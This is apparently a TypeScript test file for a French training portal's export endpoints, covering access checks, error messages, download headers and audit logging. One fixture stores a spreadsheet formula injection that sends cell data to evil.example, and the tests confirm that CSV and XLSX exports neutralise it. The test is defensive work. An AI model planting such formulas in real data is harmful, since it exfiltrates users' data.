import ExcelJS from 'exceljs'
import { createLocalReq, type Payload, type PayloadRequest } from 'payload'
import { beforeAll, describe, expect, it } from 'vitest'
import type { Training, User } from '#cms/payload-types.ts'
import { trainingEndpoints } from '#cms/collections/Trainings/endpoints.ts'
import { accountByEmail, testPortal } from '../helpers/portal.ts'

// The endpoint kit on real endpoints: guards, French errors, downloads and the audit of personal-data exports.
// Payload handlers are called with a real local request; the Astro endpoint with the context Astro gives it.
let payload: Payload
const users: Record<string, User> = {}
let demo: Training
beforeAll(async () => {
  payload = await testPortal()
  for (const email of ['admin', 'formateur', 'gestionnaire', 'apprenant']) users[email] = await accountByEmail(payload, `${email}@example.org`)
  demo = (await payload.find({ collection: 'trainings', limit: 1, overrideAccess: true })).docs[0]!
})

async function callTrainings(path: string, who: User | null, query = '', id?: number | string): Promise<Response> {
  const route = trainingEndpoints.find((e) => e.path === path)!
  const req = (await createLocalReq({ user: who ?? undefined, req: { headers: new Headers({ 'x-portal-client-ip': '203.0.113.7' }) } }, payload)) as PayloadRequest
  // What Payload's router sets from the URL before calling a custom endpoint.
  Object.assign(req, { user: who ? { ...who, collection: 'users' } : null, searchParams: new URLSearchParams(query), routeParams: id === undefined ? {} : { id: String(id) } })
  return route.handler(req)
}

const exportsBy = async (user: User, what: string) =>
  (await payload.find({ collection: 'audit-log', where: { action: { equals: 'export.personalData' }, actor: { equals: user.id }, 'details.what': { equals: what } }, sort: '-createdAt', overrideAccess: true })).docs

describe('training downloads through the kit', () => {
  it('journals the training report with its attendance annex (who, what, how many rows) and serves it privately', async () => {
    const before = (await exportsBy(users.formateur!, 'training-report')).length
    const response = await callTrainings('/:id/report', users.formateur!, 'format=docx', demo.id)
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.wordprocessingml.document')
    expect(response.headers.get('cache-control')).toBe('private, no-store')
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="rapport-[a-z0-9-]+\.docx"; filename\*=UTF-8''/)
    const entries = await exportsBy(users.formateur!, 'training-report')
    expect(entries).toHaveLength(before + 1)
    expect(entries[0]).toMatchObject({ actorEmail: 'formateur@example.org', ip: '203.0.113.7', details: { what: 'training-report', rows: 18, format: 'docx', training: String(demo.id) } })
  })

  it('journals the attendance sheet too', async () => {
    const response = await callTrainings('/:id/attendance-sheet', users.formateur!, '', demo.id)
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('application/pdf')
    expect((await exportsBy(users.formateur!, 'attendance-sheet'))[0]).toMatchObject({ details: { rows: 18, format: 'pdf' } })
  })

  it('refuses with French messages: signed out 401, without the capability 403, unknown training 404, bad format 400', async () => {
    const cases: [User | null, string, string, number | string, number, RegExp][] = [
      [null, '/:id/report', '', demo.id, 401, /^Connectez-vous/],
      [users.gestionnaire!, '/:id/report', '', demo.id, 403, /^Réservé aux formateurs, à la coordination et aux administrateurs\.$/],
      [users.formateur!, '/:id/report', '', 999_999, 404, /^Formation introuvable/],
      [users.formateur!, '/:id/report', 'format=odt', demo.id, 400, /^Paramètre « format » invalide : pdf ou docx\.$/],
      [users.formateur!, '/statistics', 'contenu=tout', '', 400, /^Paramètre « contenu » invalide : agregats ou personnes\.$/],
      [users.formateur!, '/statistics', 'format=pdf', '', 400, /^Paramètre « format » invalide : csv ou xlsx\.$/],
      [users.apprenant!, '/statistics', '', '', 403, /^Réservé/],
    ]
    for (const [who, path, query, id, status, message] of cases) {
      const response = await callTrainings(path, who, query, id)
      expect(response.status, `${path}?${query} as ${who?.email ?? 'anonymous'}`).toBe(status)
      const body = (await response.json()) as { errors: { message: string; field?: string }[] }
      expect(body.errors[0]!.message).toMatch(message)
    }
  })

  it('exports the people trained as journalled XLSX, the aggregates without a journal entry', async () => {
    const before = (await exportsBy(users.admin!, 'people-trained')).length
    const people = await callTrainings('/statistics', users.admin!, 'format=xlsx&contenu=personnes')
    expect(people.status).toBe(200)
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(Buffer.from(await people.arrayBuffer()) as never)
    expect(workbook.getWorksheet('Personnes formées')!.getRow(1).values).toContain('Prénom')
    const aggregates = await callTrainings('/statistics', users.admin!, 'format=csv')
    expect(aggregates.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(await exportsBy(users.admin!, 'people-trained')).toHaveLength(before + 1)
  })
})

describe('the self-training follow-up export (finding 9)', () => {
  let hostile: User
  beforeAll(async () => {
    hostile = await payload.create({
      collection: 'users',
      data: { email: 'formule@example.org', name: '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")', password: 'Fleuve-Niger-en-crue-2026', roles: ['learner'], passwordExpiryExempt: true },
      overrideAccess: true,
    })
    const module = (await payload.find({ collection: 'modules', limit: 1, overrideAccess: true })).docs[0]!
    await payload.create({ collection: 'module-progress', data: { user: hostile.id, module: module.id, watchedRatio: 0.5 }, overrideAccess: true })
  })

  async function exportAs(user: User | null, query: string): Promise<Response> {
    const { GET } = await import('../../site/pages/formation/suivi/export.ts')
    const url = new URL(`http://localhost:4321/formation/suivi/export?${query}`)
    const request = new Request(url, { headers: { 'x-portal-client-ip': '198.51.100.4' } })
    return GET({ url, request, locals: { payload, user, lang: 'fr' } } as never) as Promise<Response>
  }

  it('neutralises a formula in a profile name, in CSV', async () => {
    const response = await exportAs(users.admin!, 'format=csv')
    expect(response.status).toBe(200)
    const text = await response.text()
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Cliquez"")"`)
    expect(text).not.toMatch(/(^|;)"?=HYPERLINK/m)
    expect((await exportsBy(users.admin!, 'self-training-progress'))[0]).toMatchObject({ ip: '198.51.100.4', details: { format: 'csv' } })
  })

  it('neutralises it in XLSX too', async () => {
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(Buffer.from(await (await exportAs(users.admin!, 'format=xlsx')).arrayBuffer()) as never)
    const names = workbook.getWorksheet('Progression')!.getColumn(1).values
    expect(names).toContain(`'=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")`)
    expect(names).not.toContain(`=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")`)
  })

  it('answers an unknown format with a French 400 instead of a silent CSV, and refuses learners', async () => {
    const pdf = await exportAs(users.admin!, 'format=pdf')
    expect(pdf.status).toBe(400)
    expect(pdf.headers.get('content-type')).toContain('application/json')
    expect(((await pdf.json()) as { errors: { message: string }[] }).errors[0]!.message).toBe('Paramètre « format » invalide : csv ou xlsx.')
    expect((await exportAs(users.apprenant!, 'format=csv')).status).toBe(403)
    expect((await exportAs(null, 'format=csv')).status).toBe(401)
  })
})
